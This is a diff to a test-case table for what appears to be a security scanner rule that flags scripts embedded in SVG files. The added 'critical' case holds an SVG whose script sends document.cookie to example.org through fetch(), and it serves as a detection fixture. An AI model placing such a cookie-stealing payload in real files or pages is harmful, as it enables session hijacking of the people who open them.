@@ -472,6 +472,13 @@ export const ruleCases: Readonly<Record<string, RuleCases>> = {
   'FI-04': {
     hits: [
       ['medium', folderOf({ 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>' })],
+      [
+        'critical',
+        folderOf({
+          'a.svg':
+            '<svg xmlns="http://www.w3.org/2000/svg"><script>\nfetch("https://example.org/?" +\ndocument.cookie)</script></svg>',
+        }),
+      ],
     ],
     misses: [folderOf({ 'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>' })],
   },
